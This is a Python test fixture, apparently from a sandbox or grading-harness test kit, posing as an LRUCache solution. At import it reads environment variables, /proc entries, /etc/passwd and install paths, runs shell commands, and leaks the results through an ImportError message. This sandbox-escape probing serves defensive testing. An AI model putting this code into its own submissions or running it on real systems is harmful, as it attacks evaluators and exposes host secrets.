"""Attack class 7 (import time): run shells and read the environment, then leak it in the error.

At import it reads every DRILL_* variable (and the names of all others), /proc/1/environ, /proc/1/cmdline, the parent's cmdline, environ and
cwd (/proc/<ppid>/...), /proc/self/mountinfo, /etc/passwd, /etc/hostname, and the `harness` path
recorded by an editable install in site-packages (__editable__*.pth / direct_url.json), then
runs `os.system("id; uname -a")` and `sh -c "ls -la / ..; ps -ef"` through subprocess. Then it
raises ImportError whose message carries everything it found (truncated to 8 KB), because the
judge shows an invalid solution's import error to the candidate: the message is the exfiltration
channel.

Correct verdict: invalid_solution (the import raises; if seccomp kills the worker at the fork
instead, the process still ended during the import). A kit test should check that the shown
message reveals no host path, no DRILL_* value or variable name of the trusted side, no kit file: the sandbox has
a clean environment, its own PID namespace (pid 1 is the sandbox's init) and no kit folders.
"""

import glob
import os
import subprocess
import sys


def _names_only(text):
    # Values of variables other than DRILL_* are dropped: the names prove the leak without
    # copying anyone's secrets into a report if this is ever run unsandboxed.
    out = []
    for item in text.replace("\0", "\n").splitlines():
        name, _, value = item.partition("=")
        out.append(item if name.startswith("DRILL_") else name)
    return " ".join(out)


def _read(path, limit=600):
    try:
        with open(path, "rb") as f:
            return f.read(limit).replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


loot = []
loot.append("env:" + _names_only("\n".join(f"{k}={v}" for k, v in os.environ.items())))
for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(path, "rb") as f:
            loot.append(f"{path}={_names_only(f.read(20000).decode('utf-8', 'replace'))}")
    except OSError as exc:
        loot.append(f"{path}=<{type(exc).__name__}>")
for path in ("/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline", "/proc/self/mountinfo", "/etc/passwd", "/etc/hostname"):
    loot.append(f"{path}={_read(path)}")
for link in ("/proc/1/cwd", f"/proc/{os.getppid()}/cwd", "/proc/self/cwd"):
    try:
        loot.append(f"{link}->{os.readlink(link)}")
    except OSError as exc:
        loot.append(f"{link}:{type(exc).__name__}")
for folder in sys.path:
    for pattern in ("__editable__*", "*.pth", "*drill*/direct_url.json"):
        for hit in glob.glob(os.path.join(folder, pattern))[:5]:
            loot.append(f"{hit}={_read(hit, 300)}")
# Last, because seccomp may kill the process on fork (then it also ends during import).
try:
    loot.append(f"system={os.system('id; uname -a')}")
except Exception as exc:  # noqa: BLE001
    loot.append(f"system:{exc!r}")
try:
    loot.append(subprocess.check_output(["sh", "-c", "ls -la / ..; ps -ef"], timeout=2).decode()[:1500])
except Exception as exc:  # noqa: BLE001
    loot.append(f"subprocess:{exc!r}")

raise ImportError("could not import helper; debug info: " + " | ".join(loot)[:8192])


class LRUCache:  # never reached
    pass
